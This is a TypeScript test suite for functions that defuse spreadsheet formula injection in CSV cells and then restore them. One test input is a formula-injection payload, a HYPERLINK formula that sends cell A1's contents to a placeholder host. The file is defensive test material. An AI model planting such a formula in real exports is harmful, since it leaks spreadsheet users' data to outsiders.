import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { inertCell, restoreCell } from './csv-cell.ts';

describe('inertCell', () => {
  it.each([
    ['=HYPERLINK("http://x?leak="&A1,"Click")', '\'=HYPERLINK("http://x?leak="&A1,"Click")'],
    ['+1', "'+1"],
    ['-0508', "'-0508"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tTab', "'\tTab"],
    ['\rReturn', "'\rReturn"],
    ["'=already", "''=already"],
    ["'quoted", "'quoted"],
    ['Trump = Putin', 'Trump = Putin'],
    ['2019-01-01', '2019-01-01'],
    ['', ''],
  ])('writes %j as %j', (cell, written) => {
    expect(inertCell(cell)).toBe(written);
  });
});

describe('restoreCell', () => {
  it('gives back exactly what was written, for any text', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', ' ') }),
        (cell) => {
          expect(restoreCell(inertCell(cell))).toBe(cell);
        },
      ),
      { numRuns: 2000 },
    );
  });

  it('leaves a cell no export wrote as it is', () => {
    expect(restoreCell("'quoted")).toBe("'quoted");
    expect(restoreCell('=1+1')).toBe('=1+1');
  });
});
